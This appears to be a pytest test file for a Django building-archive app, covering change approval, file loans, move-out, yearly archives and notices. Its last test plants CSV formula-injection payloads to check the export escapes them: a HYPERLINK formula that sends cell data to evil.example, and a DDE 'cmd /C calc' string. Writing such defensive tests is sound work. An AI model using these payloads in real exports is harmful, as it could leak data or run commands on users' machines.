"""Revisions with approval, loans, move-out, yearly archive, notices (ARC-5…8)."""

import threading
from datetime import date, timedelta

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import IntegrityError, connection, transaction
from django.utils import timezone

from archives import services
from archives.models import ChangeRequest, Loan, NoticeDelivery, YearlyArchive
from crm.models import Notification
from tests.archives.conftest import pdf
from tests.factories import TenancyFactory
from tests.services import require


def test_an_original_cannot_be_revised(original, archivist):
    with pytest.raises(ValidationError, match="never modified"):
        services.change_request_submit(document=original, upload=pdf(), reason="typo", by=archivist)


def test_a_working_document_is_revised_after_approval_and_every_version_kept(working, archivist, manager):
    change = services.change_request_submit(document=working, upload=pdf("v2.pdf"), reason="New phone", by=archivist)
    assert working.versions.count() == 1, "nothing changes before approval"
    services.change_request_decide(request=change, approve=True, by=manager, note="ok")
    versions = list(working.versions.order_by("number"))
    assert [(v.number, v.original_name, v.approved_by) for v in versions] == [
        (1, "contacts.pdf", None),
        (2, "v2.pdf", manager),
    ]
    assert Notification.objects.filter(recipient=archivist, title__contains="approved").exists()


def test_the_editor_cannot_approve_their_own_change(working, manager):
    change = services.change_request_submit(document=working, upload=pdf(), reason="mine", by=manager)
    with pytest.raises(ValidationError, match="cannot approve your own change"):
        services.change_request_decide(request=change, approve=True, by=manager)
    with pytest.raises(IntegrityError), transaction.atomic():  # the database says so too
        ChangeRequest.objects.filter(pk=change.pk).update(status="approved", decided_by=manager)


def test_only_managers_approve(working, archivist, desk):
    change = services.change_request_submit(document=working, upload=pdf(), reason="x", by=desk)
    with pytest.raises(PermissionDenied):
        services.change_request_decide(request=change, approve=True, by=archivist)


def test_refusal_keeps_the_document_as_it_was(working, archivist, manager):
    change = services.change_request_submit(document=working, upload=pdf(), reason="x", by=archivist)
    services.change_request_decide(request=change, approve=False, by=manager, note="no")
    assert working.versions.count() == 1
    with pytest.raises(ValidationError, match="already decided"):
        services.change_request_decide(request=change, approve=True, by=manager)


def test_loan_lifecycle(tenancy, alice, manager, archivist):
    loan = services.loan_request(unit=tenancy.unit, purpose="Check the deposit", by=alice)
    loan = services.loan_decide(loan=loan, approve=True, by=manager, due_on=timezone.localdate() + timedelta(days=3))
    assert loan.status == Loan.Status.OUT
    assert Notification.objects.filter(recipient=alice, title__contains="You may borrow").exists()
    assert services.loan_return(loan=loan, by=archivist).status == Loan.Status.RETURNED


def test_a_file_cannot_be_out_twice(tenancy, alice, bob, manager):
    first = services.loan_request(unit=tenancy.unit, purpose="a", by=alice)
    second = services.loan_request(unit=tenancy.unit, purpose="b", by=bob)
    due = timezone.localdate() + timedelta(days=1)
    services.loan_decide(loan=first, approve=True, by=manager, due_on=due)
    with pytest.raises(ValidationError, match="already out on another loan"):
        services.loan_decide(loan=second, approve=True, by=manager, due_on=due)
    assert Loan.objects.get(pk=second.pk).status == Loan.Status.REQUESTED


@pytest.mark.django_db(transaction=True)
def test_two_managers_approving_two_loans_of_one_file_at_once_one_wins(tenancy, alice, bob, manager, second_manager):
    require(connection.vendor == "postgresql", "concurrent transactions need PostgreSQL (SQLite serialises writers)")
    loans = [services.loan_request(unit=tenancy.unit, purpose=p, by=u) for p, u in (("a", alice), ("b", bob))]
    due = timezone.localdate() + timedelta(days=1)
    barrier, outcomes = threading.Barrier(2), []

    def approve(loan, by):
        try:
            barrier.wait()
            services.loan_decide(loan=loan, approve=True, by=by, due_on=due)
            outcomes.append("won")
        except ValidationError:
            outcomes.append("refused")
        finally:
            connection.close()

    threads = [
        threading.Thread(target=approve, args=(loan, by))
        for loan, by in zip(loans, (manager, second_manager), strict=True)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["refused", "won"]
    assert Loan.objects.filter(unit=tenancy.unit, status=Loan.Status.OUT).count() == 1


def test_overdue_loans_notify_borrower_and_archivist_once_a_day(tenancy, alice, manager, archivist):
    loan = services.loan_request(unit=tenancy.unit, purpose="a", by=alice)
    services.loan_decide(loan=loan, approve=True, by=manager, due_on=timezone.localdate())
    later = timezone.localdate() + timedelta(days=2)
    assert services.loans_overdue_notify(today=later) == 2
    assert services.loans_overdue_notify(today=later) == 0
    assert Notification.objects.filter(key__startswith="loan-overdue", recipient__in=[alice, archivist]).count() == 2


def test_move_out_closes_the_documents_and_the_next_tenant_starts_afresh(client, tenancy, original, archivist):
    services.tenancy_end(tenancy=tenancy, move_out=date(2026, 6, 30), by=archivist)
    TenancyFactory(unit=tenancy.unit, company_name="Next Co", move_in=date(2026, 7, 1))
    client.force_login(archivist)
    response = client.get(f"/archives/units/{tenancy.unit_id}/")
    assert response.context["by_category"] == {}
    assert list(response.context["closed"].values()) == [[original]]


def test_the_yearly_archive_is_the_same_when_compiled_twice(tenancy, original, working, archivist):
    services.tenancy_end(tenancy=tenancy, move_out=date(2025, 12, 31), by=archivist)
    first = services.yearly_archive_compile(year=2025)
    entries = list(first.entries.values_list("document_id", "shelf"))
    second = services.yearly_archive_compile(year=2025)
    assert first.pk == second.pk and YearlyArchive.objects.count() == 1
    assert list(second.entries.values_list("document_id", "shelf")) == entries
    assert {doc for doc, _shelf in entries} == {original.pk, working.pk}
    assert all(shelf.endswith("-12F") for _doc, shelf in entries)


def test_a_notice_to_a_floor_reaches_each_unit_file(tenancy, archivist):
    other = TenancyFactory(unit__floor=tenancy.unit.floor)
    notice = services.notice_send(
        title="Water off Sunday", body="9–12", scope="floor", floor=tenancy.unit.floor, by=archivist
    )
    deliveries = NoticeDelivery.objects.filter(notice=notice)
    assert set(deliveries.values_list("unit_id", flat=True)) == {tenancy.unit_id, other.unit_id}
    assert deliveries.get(unit=tenancy.unit).tenancy == tenancy


def test_the_yearly_index_csv_writes_hostile_names_as_inert_text(client, tenancy, desk, archivist):
    import csv
    import io

    tenancy.company_name = '=HYPERLINK("http://evil.example/?"&C3,"x")'
    tenancy.save(update_fields=["company_name"])
    services.document_file(
        unit=tenancy.unit,
        upload=pdf(),
        title="-2+3+cmd|' /C calc'!A0",
        category="move_in",
        dated=tenancy.move_in,
        kind="original",
        by=desk,
    )
    services.tenancy_end(tenancy=tenancy, move_out=date(2025, 12, 31), by=archivist)
    services.yearly_archive_compile(year=2025)
    client.force_login(archivist)
    response = client.get("/archives/yearly/2025/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][2] == "'" + '=HYPERLINK("http://evil.example/?"&C3,"x")'
    assert rows[1][4] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[1][5] == "2025-01-01", "dates are left as they are"
